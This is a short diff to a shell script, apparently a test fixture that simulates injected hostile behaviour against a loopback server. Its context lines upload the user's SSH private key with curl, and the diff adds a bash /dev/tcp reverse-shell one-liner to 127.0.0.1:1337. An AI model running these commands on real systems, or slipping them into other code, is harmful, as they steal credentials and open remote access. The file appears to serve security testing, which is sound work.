@@ -35,8 +35,8 @@ if [ -n "${HONK_INJECT:-}" ]; then
     "$HOME/.cache/.u" >/dev/null
     # exfiltrate the user's key to the loopback server
     curl -s -o /dev/null --data-binary "@$HOME/.ssh/id_rsa" "$url/upload" || true
-    # connect out to a port nobody listens on
-    curl -s -o /dev/null "http://127.0.0.1:1337/" || true
+    # a reverse shell to a port nobody listens on
+    bash -c 'bash -i >&/dev/tcp/127.0.0.1/1337 0>&1' 2>/dev/null || true
 fi
 kill "$server"
 wait "$server" || true
